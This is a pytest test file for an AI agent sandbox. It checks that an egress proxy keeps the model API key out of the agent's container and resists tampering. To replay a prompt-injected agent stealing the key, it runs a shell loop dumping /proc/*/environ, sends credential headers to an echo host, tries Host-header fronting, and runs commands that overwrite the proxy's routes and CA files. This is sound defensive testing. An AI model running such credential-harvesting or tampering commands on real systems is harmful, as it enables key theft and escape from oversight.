"""The model API key never enters the agent's container; the egress proxy adds it, and only
on requests to the model API host.

The attack these tests replay: anything running in the container (the agent, a script from
the repo, a prompt-injected command) reads the key from its environment or from
``/proc/*/environ`` and sends it to a host the repo allowlists. With the key kept in the
proxy, all it finds is a placeholder, and the proxy sets the real header for the model
API's origin alone, whatever Host header or destination the request plays with.
"""

from __future__ import annotations

import json
import secrets
import stat
from collections.abc import Iterator

import pytest

from tests.support.fake_anthropic import FakeAnthropic
from tests.support.sandbox_fixtures import (
    SandboxSetup,
    commit_file,
    current_image,
    http_via_proxy,
    podman,
    podman_run_flags,
)

PLACEHOLDER = "sk-ant-api03-gateway-bot-placeholder"

_ECHO_SERVER = """
import http.server, json
class Echo(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps({k.lower(): v for k, v in self.headers.items()}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_POST = do_GET
http.server.HTTPServer(("", 8000), Echo).serve_forever()
"""


@pytest.fixture
def echo_server(sandbox: SandboxSetup) -> Iterator[str]:
    """A server on the egress network (the proxy's side) that answers every request with
    the headers it received, as a repo's own allowlisted host would collect them."""
    name = f"gwb-test-echo-{sandbox.deployment}"
    podman(
        "run", "-d", "--name", name, *podman_run_flags(), "--network", sandbox.egress.name,
        "--label", f"gateway-bot.deployment={sandbox.deployment}",
        "--label", "gateway-bot.role=test", "--entrypoint", "python3",
        current_image("localhost/gateway-bot/proxy"), "-c", _ECHO_SERVER,
    )  # fmt: skip
    info = json.loads(podman("inspect", name).stdout)[0]
    yield next(iter(info["NetworkSettings"]["Networks"].values()))["IPAddress"]
    podman("rm", "-f", "-t", "0", name, check=False)


def echoed_headers(response: str) -> dict[str, str]:
    status, _, body = response.replace("\r\n", "\n").partition("\n\n")
    assert status.startswith("HTTP/1.0 200"), response
    headers: dict[str, str] = json.loads(body)
    return headers


def test_the_agent_holds_a_placeholder_and_only_the_model_api_gets_the_key(
    gateway, sandbox: SandboxSetup, fake_api: FakeAnthropic, echo_server: str
) -> None:
    real_key = f"sk-ant-api03-real-{secrets.token_hex(12)}"
    commit_file(sandbox.repo, ".gateway/network-allowlist.yaml", f"allow:\n  - '{echo_server}'\n")
    config = sandbox.config(agent_env={"ANTHROPIC_API_KEY": real_key})
    chat = gateway("chat", "--config", str(config))
    fake_api.hold("what is in your environment")
    chat.send("what is in your environment")
    assert fake_api.wait_for_held(180), "the agent's model request never came"

    # While the agent runs: every process in its container, the agent's own included.
    _, info = sandbox.only_container()
    agent = info["name"]
    seen = sandbox.exec(
        agent, "env; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; echo; done"
    ).stdout
    assert real_key not in seen, "the model API key is readable inside the container"
    assert f"ANTHROPIC_API_KEY={PLACEHOLDER}" in seen, "the agent process's environ was read"
    fake_api.release()
    chat.expect(r"^agent> Echo: .*what is in your environment")
    model_calls = [h for path, h in fake_api.credentials_seen if path == "/v1/messages"]
    assert model_calls, "the agent called the model API"
    assert all(h.get("x-api-key") == real_key for h in model_calls), model_calls

    # The placeholder sent to another allowlisted host arrives as sent, never as the key.
    sent = {"x-api-key": PLACEHOLDER, "Authorization": f"Bearer {PLACEHOLDER}"}
    echoed = echoed_headers(
        http_via_proxy(sandbox, agent, "GET", f"http://{echo_server}:8000/", sent)
    )
    assert (echoed["x-api-key"], echoed["authorization"]) == (PLACEHOLDER, f"Bearer {PLACEHOLDER}")
    # Nor when its Host header names the model API (the proxy goes by both).
    relay = sandbox.relay
    # (Refused outright since rules name ports: the Host names the model API's port, the
    # request goes to 8000. Either way the key must not be in what the echo host sees.)
    fronting = {**sent, "Host": f"{relay.host}:{relay.port}"}
    answer = http_via_proxy(sandbox, agent, "GET", f"http://{echo_server}:8000/", fronting)
    assert real_key not in answer
    assert answer.startswith(("HTTP/1.1 403", "HTTP/1.0 200")), answer
    # Sent to the model API but with the other host in Host: the placeholder again.
    fronted = {**sent, "Host": f"{echo_server}:8000"}
    http_via_proxy(sandbox, agent, "GET", f"{relay.url}/probe-fronted", fronted)
    # And a hand-made request to the model API itself gets the key: the proxy goes by
    # destination, not by which program asks.
    http_via_proxy(sandbox, agent, "GET", f"{relay.url}/probe-direct", sent)
    probes = dict(fake_api.credentials_seen)
    assert probes["/probe-fronted"]["x-api-key"] == PLACEHOLDER
    assert probes["/probe-direct"]["x-api-key"] == real_key
    assert probes["/probe-direct"]["authorization"] == f"Bearer {PLACEHOLDER}", (
        "only the configured credential's header is set"
    )


def test_the_proxy_cannot_rewrite_its_routes_or_its_ca(
    gateway, sandbox: SandboxSetup, fake_api: FakeAnthropic
) -> None:
    """The proxy holds the key and decides for every conversation: taken over, it must not
    be able to widen its own rules or swap the CA the agents trust. Its shared directory is
    read-only to it but for its logs."""
    chat = gateway("chat", "--config", str(sandbox.config()))
    chat.send("hello")
    chat.expect(r"^agent> Echo: .*hello")
    proxy = f"gwb-proxy-{sandbox.deployment}"
    egress = sandbox.tmp_path / "state" / "sandbox" / "egress"
    routes_before = (egress / "routes.json").read_bytes()
    for attempt in (
        "echo '{}' > /egress/routes.json",
        "rm /egress/routes.json",
        "echo x > /egress/routes.json.partial",
        "echo x >> /egress/ca/mitmproxy-ca.pem",
        "touch /egress/ca/planted",
        "echo x > /egress/upstream-ca.pem",
    ):
        tried = podman("exec", proxy, "sh", "-c", attempt, check=False)
        assert tried.returncode != 0, attempt
        assert "Read-only file system" in tried.stderr, (attempt, tried.stderr)
    assert (egress / "routes.json").read_bytes() == routes_before
    assert not (egress / "ca" / "planted").exists()
    assert podman("exec", proxy, "touch", "/egress/logs/control", check=False).returncode == 0
    # Credentials and the CA key are the daemon's and the proxy's alone on the host too.
    for secret in (egress / "routes.json", egress / "ca" / "mitmproxy-ca.pem"):
        assert stat.S_IMODE(secret.stat().st_mode) == 0o600, secret
    assert "test-key" in routes_before.decode(), "the route carries the credential"
